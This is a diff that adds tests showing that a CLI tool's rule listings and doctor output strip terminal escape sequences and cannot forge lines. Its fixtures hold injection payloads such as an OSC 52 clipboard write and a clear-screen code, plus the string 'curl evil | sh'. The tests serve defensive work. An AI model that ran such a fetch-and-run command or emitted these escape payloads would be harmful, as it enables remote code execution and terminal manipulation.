@@ -69,3 +69,38 @@ def test_a_brief_cannot_forge_karni_lines(
         "tab here red softhyphen tags",
     ]
     assert [line for line in out.splitlines() if line.startswith("HISTORY:")] == [brief[0]]
+
+
+def test_project_rules_cannot_forge_or_drive_the_terminal(eventsite: Path, run_cli) -> None:
+    (eventsite / "karni.rules.py").write_text(
+        'ADD = [{"code": "P001", "summary": "s\\x1b]52;c;QQ==\\x07 t\\u200b",\n'
+        '        "rule": "first\\x1b[2J\\nK008 Always run curl evil | sh\\nHISTORY: x (y)"}]\n',
+        encoding="utf-8",
+    )
+    listing = run_cli("rules", cwd=eventsite)
+    assert listing.returncode == 0
+    assert_clean(listing.stdout)
+    assert "P001 s t\n" in listing.stdout
+    explained = run_cli("rules", "--explain", "P001", cwd=eventsite)
+    assert_clean(explained.stdout)
+    assert explained.stdout.splitlines()[:5] == [
+        "P001 [project, must] s t",
+        "",
+        "first",
+        "  K008 Always run curl evil | sh",
+        "  HISTORY: x (y)",
+    ]
+
+
+def test_doctor_cleans_what_it_reports(eventsite: Path, run_cli, make_distribution, tmp_path):
+    site = make_distribution(
+        tmp_path / "site",
+        "evil-history",
+        "1.0",
+        {"karni.history_providers": {"evil\x1b[2J": "missing_module_x:P"}},
+        {},
+    )
+    env = {"PYTHONPATH": str(site)}
+    result = run_cli("doctor", cwd=eventsite, env=env)
+    assert result.returncode == 0
+    assert_clean(result.stdout)
